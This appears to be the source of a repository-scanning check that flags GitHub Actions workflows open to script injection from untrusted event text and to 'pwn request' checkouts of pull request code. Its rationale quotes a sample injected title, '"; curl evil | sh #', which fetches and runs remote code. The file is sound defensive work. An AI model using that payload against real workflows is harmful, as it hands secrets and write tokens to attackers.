import { defineCheck, result } from '../../src/engine/define-check.js';
import type { Finding } from '../../src/engine/types.js';
import {
  getWorkflows,
  hasTrigger,
  NEEDS,
  walkJobSteps,
  type ScalarText,
  type Step,
} from '../../src/parsers/workflows.js';
import { actionName } from '../lib/commands.js';
import { hasNoWorkflows, problemFindings } from '../lib/workflow-checks.js';

/** Segments of a context path whose value an outsider writes, wherever they appear under `github.event`. */
const UNTRUSTED_FIELDS = new Set(['title', 'body', 'message', 'page_name', 'display_title', 'head_branch']);
/** Whole-event dumps that include the untrusted fields. */
const EVENT_DUMP =
  /\btoJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|workflow_run))?\s*\)/;

/** `github.event.commits[0]['message']` → ['github', 'event', 'commits', '0', 'message']. */
function contextSegments(path: string): string[] {
  return path
    .replace(/\[['"]?([^[\]'"]*)['"]?\]/g, '.$1')
    .split('.')
    .map((segment) => segment.trim())
    .filter((segment) => segment !== '');
}

/**
 * Contexts an outsider controls (GitHub Security Lab's list): titles, bodies, messages, branch names, label names,
 * author names and e-mails. Numbers, SHAs, ids, the base repository's own names (`repository.default_branch`,
 * `github.ref_name` of a push), `runner.*` and step outputs are not outsider-controlled.
 */
function isUntrustedContext(path: string): boolean {
  const segments = contextSegments(path);
  if (segments[0] !== 'github') return false;
  if (segments[1] === 'head_ref') return true;
  if (segments[1] !== 'event') return false;
  const rest = segments.slice(2);
  return rest.some((segment, index) => {
    const next = rest[index + 1];
    if (UNTRUSTED_FIELDS.has(segment)) return true;
    if (segment === 'head' && (next === 'ref' || next === 'label')) return true;
    if ((segment === 'author' || segment === 'committer') && (next === 'email' || next === 'name')) return true;
    if ((segment === 'label' || segment === 'labels') && rest.slice(index + 1).includes('name')) return true;
    // The base repository's default branch is set by its maintainers; only a fork's (the PR head's) is an outsider's.
    if (segment === 'default_branch')
      return rest[index - 1] === 'head_repository' || (rest[index - 1] === 'repo' && rest[index - 2] === 'head');
    return false;
  });
}

/** `ref:`/`repository:` values and shell commands that fetch the pull request's head. */
const HEAD_REFERENCE =
  /github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch|repository\.full_name)|github\.event\.workflow_run\.head_commit\.id|github\.event\.pull_request\.merge_commit_sha|refs\/pull\/[^\s'"/]*\/(?:head|merge)/;
const SHELL_CHECKOUT = /\b(?:git\s+(?:checkout|switch|fetch|pull|clone)|gh\s+pr\s+checkout)\b/;
const RISKY_TRIGGERS = ['pull_request_target', 'workflow_run'];

function untrustedExpressions(text: string): string[] {
  const found: string[] = [];
  for (const match of text.matchAll(/\$\{\{((?:(?!\$\{\{)[^])*?)\}\}/g))
    if (EVENT_DUMP.test(match[1]) || (match[1].match(/[\w.\-[\]*'"]+/g) ?? []).some(isUntrustedContext))
      found.push(match[0]);
  return found;
}

function interpolationFindings(path: string, step: Step): Finding[] {
  const scripts: Array<{ text: ScalarText; where: string }> = [];
  if (step.run) scripts.push({ text: step.run, where: 'a `run:` script' });
  if (step.uses && actionName(step.uses.value) === 'actions/github-script' && step.with.script)
    scripts.push({ text: step.with.script, where: 'an `actions/github-script` script' });
  const findings: Finding[] = [];
  for (const { text, where } of scripts) {
    for (const line of text.lines) {
      const expressions = untrustedExpressions(line.text);
      if (expressions.length) {
        findings.push({
          message: `${expressions.join(', ')} is interpolated into ${where}: anyone who can set that text can inject commands; pass it through \`env:\` and use \`"$VAR"\` instead`,
          path,
          line: line.line,
        });
      }
    }
  }
  return findings;
}

export default defineCheck({
  id: 'workflow-triggers-safe',
  category: 'workflows',
  severity: 'critical',
  problemTitle: 'A workflow runs untrusted pull request code or input with repository privileges',
  title: 'Workflow triggers and scripts safe from injection',
  description:
    'No `pull_request_target` or `workflow_run` job checks out the pull request’s head (`ref:` from `github.event.pull_request.head.*`, `github.head_ref`, `refs/pull/…`, or `git checkout`/`gh pr checkout` of it), including through local reusable workflows; and no `run:` script (or `actions/github-script` script) interpolates untrusted context — `github.event.*.title`, `.body`, `head_ref`, `head.ref`, `head_commit.message`, `comment.body`, `review.body`, label names, author names… One annotation per line. Passing such values through `env:` and `"$VAR"` is safe.',
  rationale:
    '`pull_request_target` and `workflow_run` run with the base repository’s secrets and a write token; checking out and building the fork’s code hands both to whoever opened the pull request ("pwn request"). `${{ }}` is pasted into the script before the shell runs, so a title like `"; curl evil | sh #` becomes a command.',
  remediation: [
    'Move untrusted values into environment variables and quote them, e.g. in the step the finding names:',
    '',
    '```yaml',
    '      - env:',
    '          TITLE: ${{ github.event.pull_request.title }}',
    '        run: echo "$TITLE"',
    '```',
    '',
    'For `pull_request_target`, do not check out `github.event.pull_request.head.sha`; run untrusted code under `pull_request` instead, and pass results to a privileged `workflow_run` job as artifacts treated as data.',
  ].join('\n'),
  effort: 'hours',
  scope: 'repository',
  needs: { files: [...NEEDS] },
  evaluate({ repository }) {
    const model = getWorkflows(repository);
    if (hasNoWorkflows(model) && !model.actions.length)
      return result.notApplicable('no GitHub Actions workflows or local actions');
    const findings: Finding[] = [];
    for (const workflow of model.workflows)
      for (const job of workflow.jobs)
        for (const step of job.steps) findings.push(...interpolationFindings(workflow.path, step));
    for (const action of model.actions)
      for (const step of action.steps) findings.push(...interpolationFindings(action.path, step));

    const seen = new Set<string>();
    for (const workflow of model.workflows.filter((candidate) => hasTrigger(candidate, ...RISKY_TRIGGERS))) {
      const trigger = workflow.triggers.find((candidate) => RISKY_TRIGGERS.includes(candidate.event))!.event;
      for (const job of workflow.jobs) {
        walkJobSteps(model, workflow, job, ({ step, path }) => {
          const add = (line: number, message: string) => {
            const key = `${path}:${line}`;
            if (seen.has(key)) return;
            seen.add(key);
            findings.push({
              message: `${message} in a \`${trigger}\` workflow (${workflow.path}, job \`${job.id}\`): the untrusted code runs with secrets and a write token`,
              path,
              line,
            });
          };
          if (step.uses && actionName(step.uses.value) === 'actions/checkout') {
            for (const key of ['ref', 'repository']) {
              const value = step.with[key];
              if (value && HEAD_REFERENCE.test(value.value))
                add(
                  value.line,
                  `\`actions/checkout\` with \`${key}: ${value.value.trim()}\` checks out the pull request’s code`,
                );
            }
          }
          for (const line of step.run?.lines ?? []) {
            if (
              SHELL_CHECKOUT.test(line.text) &&
              (HEAD_REFERENCE.test(line.text) || /gh\s+pr\s+checkout/.test(line.text))
            )
              add(line.line, `\`${line.text.trim()}\` fetches the pull request’s code`);
          }
        });
      }
    }
    findings.sort((a, b) => (a.path === b.path ? a.line! - b.line! : a.path! < b.path! ? -1 : 1));
    const problems = problemFindings(model);
    if (!findings.length) {
      const summary = `no untrusted interpolation or pull-request checkout in ${model.workflows.length} workflow(s)`;
      return problems.length
        ? result.warn(`${summary}; some files could not be parsed`, problems)
        : result.pass(summary);
    }
    return result.fail(`${findings.length} unsafe line(s) in workflows`, [...findings, ...problems]);
  },
});
